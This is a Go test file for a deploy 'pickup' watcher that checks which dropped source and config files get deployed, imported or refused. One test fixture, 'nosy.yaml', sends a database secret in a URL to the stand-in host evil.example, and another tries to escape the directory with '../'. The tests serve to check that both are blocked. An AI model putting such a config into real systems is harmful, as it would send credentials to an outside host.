package pickup

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"google.golang.org/genproto/googleapis/rpc/errdetails"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"

	adminv1 "github.com/weft-dev/weft/proto/weft/admin/v1"
)

// recorder is a Deployer that keeps what it was asked and refuses packages
// whose source says "broken".
type recorder struct {
	reqs    []*adminv1.DeployRequest
	imports []*adminv1.ImportConfigRequest
}

func (r *recorder) Deploy(_ context.Context, req *adminv1.DeployRequest) (*adminv1.DeployResponse, error) {
	r.reqs = append(r.reqs, req)
	for _, p := range req.GetPackages() {
		for _, f := range p.GetFiles() {
			if strings.Contains(string(f.GetContent()), "broken") {
				return nil, errors.New(f.GetName() + ":1:1: broken")
			}
		}
	}
	return &adminv1.DeployResponse{Revision: int64(len(r.reqs))}, nil
}

// ImportConfig keeps the request and refuses a config holding a channel
// named "broken", as the control plane would: with a field violation.
func (r *recorder) ImportConfig(_ context.Context, req *adminv1.ImportConfigRequest) (*adminv1.ImportConfigResponse, error) {
	r.imports = append(r.imports, req)
	for i, ch := range req.GetConfig().GetChannels() {
		if ch.GetName() == "broken" {
			st, _ := status.New(codes.InvalidArgument, `import config: channel "broken": service: service "nope" is not deployed`).
				WithDetails(&errdetails.BadRequest{FieldViolations: []*errdetails.BadRequest_FieldViolation{{
					Field: fmt.Sprintf("config.channels[%d].service", i), Description: `channel "broken": service: service "nope" is not deployed`,
				}}})
			return nil, st.Err()
		}
	}
	return &adminv1.ImportConfigResponse{Items: []*adminv1.PlanItem{{Kind: "channel", Name: "x", Action: "create"}}, Changes: true, Applied: true, Revision: 7}, nil
}

func write(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestWatcher(t *testing.T) {
	dir := t.TempDir()
	rec := &recorder{}
	w, err := NewWatcher(dir, rec, rec, time.Hour, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(dir, "a.go"), "package a")
	write(t, filepath.Join(dir, "pkg", "b.go"), "package b")
	write(t, filepath.Join(dir, "pkg", "b_test.go"), "package b")
	write(t, filepath.Join(dir, "bad.go"), "package bad // broken")
	write(t, filepath.Join(dir, "notes.txt"), "not go")
	write(t, filepath.Join(dir, "c.go.swp"), "editor junk")
	ctx := context.Background()

	w.Poll(ctx) // first sight: nothing is deployed until it has settled
	if len(rec.reqs) != 0 {
		t.Fatalf("deployed on first sight: %v", rec.reqs)
	}
	w.Poll(ctx)
	if len(rec.reqs) != 3 {
		t.Fatalf("deploys = %d, want 3 (a.go, bad.go, pkg)", len(rec.reqs))
	}
	for _, r := range rec.reqs {
		for _, f := range r.GetPackages()[0].GetFiles() {
			if strings.HasSuffix(f.GetName(), "_test.go") {
				t.Fatalf("a test file was deployed: %s", f.GetName())
			}
		}
	}
	left, _ := os.ReadDir(dir)
	var names []string
	for _, e := range left {
		names = append(names, e.Name())
	}
	if got := strings.Join(names, " "); got != ".deployed .failed c.go.swp notes.txt" {
		t.Fatalf("left in the pickup dir: %s", got)
	}
	deployed, _ := filepath.Glob(filepath.Join(dir, DeployedDir, "*"))
	if len(deployed) != 2 {
		t.Fatalf("deployed entries = %v, want 2", deployed)
	}
	errFiles, _ := filepath.Glob(filepath.Join(dir, FailedDir, "*-bad.go.error"))
	if len(errFiles) != 1 {
		t.Fatalf("no .error file for bad.go in %s", FailedDir)
	}
	if b, _ := os.ReadFile(errFiles[0]); !strings.Contains(string(b), "bad.go:1:1: broken") {
		t.Fatalf(".error = %q", b)
	}

	// A file still changing between polls waits.
	write(t, filepath.Join(dir, "d.go"), "package d")
	w.Poll(ctx)
	write(t, filepath.Join(dir, "d.go"), "package d // more")
	w.Poll(ctx)
	if len(rec.reqs) != 3 {
		t.Fatal("a file that changed between polls was deployed")
	}
	w.Poll(ctx)
	if len(rec.reqs) != 4 {
		t.Fatal("a settled file was not deployed")
	}
}

func TestReadSources(t *testing.T) {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "svc", "a.go"), "package a")
	write(t, filepath.Join(dir, "one.go"), "package one")
	// Comments at the end of a line, as weftctl deploy --sources reads
	// them (the same parser, proto/sources).
	write(t, filepath.Join(dir, "list.txt"), "# services\n\nsvc   # the a service\n\tone.go\t# and one\n")
	srcs, err := ReadSources(filepath.Join(dir, "list.txt"))
	if err != nil {
		t.Fatal(err)
	}
	if len(srcs) != 2 || srcs[0].GetFiles()[0].GetName() != "a.go" || srcs[1].GetFiles()[0].GetName() != "one.go" {
		t.Fatalf("sources = %v", srcs)
	}

	write(t, filepath.Join(dir, "bad.txt"), "svc\nmissing  # gone\nlist.txt\n")
	_, err = ReadSources(filepath.Join(dir, "bad.txt"))
	for _, want := range []string{
		"bad.txt:2: " + filepath.Join(dir, "missing") + ": no such file or directory",
		"bad.txt:3: " + filepath.Join(dir, "list.txt") + ": not a .go file or a package directory",
	} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Fatalf("ReadSources of a bad list = %v, want an error holding %q", err, want)
		}
	}
	write(t, filepath.Join(dir, "empty.txt"), "# nothing\n")
	if _, err := ReadSources(filepath.Join(dir, "empty.txt")); err == nil {
		t.Fatal("an empty list was accepted")
	}
}

func TestWatcherConfig(t *testing.T) {
	dir := t.TempDir()
	rec := &recorder{}
	w, err := NewWatcher(dir, rec, rec, time.Hour, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	t.Setenv("WEFT_SECRET_PICKUP_TEST", "t0ken")
	t.Setenv("WEFT_DB", "mysql:weft:Hunter2@tcp(db:3306)/weft")
	write(t, filepath.Join(dir, "good.yaml"), `version: 1
security:
- name: crm
  kind: bearer
  token: ${WEFT_SECRET_PICKUP_TEST}
`)
	write(t, filepath.Join(dir, "refused.yml"), `channels:
- name: fine
  path: /fine
  service: a.b
- name: broken
  path: /broken
  service: nope
`)
	write(t, filepath.Join(dir, "unset.json"), `{"security": [{"name": "x", "kind": "bearer", "token": "${PICKUP_TEST_UNSET}"}]}`)
	write(t, filepath.Join(dir, "typo.yaml"), "channels:\n- name: c\n  pathh: /c\n")
	write(t, filepath.Join(dir, "nosy.yaml"), "outgoing:\n- name: o\n  address: https://evil.example/?${WEFT_DB}\n")
	write(t, filepath.Join(dir, "away.yaml"), "include: [../elsewhere.yaml]\n")
	write(t, filepath.Join(dir, "_part.yaml"), "channels: []\n") // included by others: never picked up
	ctx := context.Background()
	w.Poll(ctx)
	w.Poll(ctx)

	if len(rec.imports) != 2 {
		t.Fatalf("imports = %d, want 2 (good.yaml, refused.yml; the others fail before)", len(rec.imports))
	}
	for _, req := range rec.imports {
		if req.GetPrune() || req.GetDryRun() {
			t.Errorf("pickup import with prune %v, dry run %v; want neither", req.GetPrune(), req.GetDryRun())
		}
	}
	if got := rec.imports[0].GetConfig().GetSecurity()[0].GetToken(); got != "t0ken" {
		t.Errorf("token = %q, want the environment's value", got)
	}
	if len(rec.reqs) != 0 {
		t.Errorf("a config file was deployed as a package: %v", rec.reqs)
	}
	if _, err := os.Stat(filepath.Join(dir, DeployedDir)); err != nil {
		t.Fatal(err)
	}
	deployed, _ := filepath.Glob(filepath.Join(dir, DeployedDir, "*-good.yaml"))
	if len(deployed) != 1 {
		t.Errorf("good.yaml not moved to %s", DeployedDir)
	}
	wantFailed := map[string]string{
		"refused.yml": "refused.yml:7: channel \"broken\": service: service \"nope\" is not deployed",
		"unset.json":  "unset.json:1: security \"x\": token: variable PICKUP_TEST_UNSET is not set (in the control plane's environment",
		"nosy.yaml":   "nosy.yaml:3: outgoing \"o\": address: variable WEFT_DB is not set",
		"away.yaml":   "away.yaml:1: include " + filepath.Join(filepath.Dir(dir), "elsewhere.yaml") + ": outside " + dir,
		"typo.yaml":   "typo.yaml:3: channel \"c\": unknown field \"pathh\"",
	}
	for name, text := range wantFailed {
		errs, _ := filepath.Glob(filepath.Join(dir, FailedDir, "*-"+name+".error"))
		if len(errs) != 1 {
			t.Errorf("%s: no .error file in %s", name, FailedDir)
			continue
		}
		b, _ := os.ReadFile(errs[0])
		if !strings.Contains(string(b), text) {
			t.Errorf("%s.error = %q, want it to say %q", name, b, text)
		}
		if strings.Contains(string(b), "Hunter2") {
			t.Errorf("%s.error holds the control plane's database password", name)
		}
		if fi, err := os.Stat(errs[0]); err != nil || fi.Mode().Perm() != 0o600 {
			t.Errorf("%s.error mode %v, %v; want 0600", name, fi.Mode(), err)
		}
	}
	if _, err := os.Stat(filepath.Join(dir, "_part.yaml")); err != nil {
		t.Errorf("_part.yaml was picked up: %v", err)
	}
}
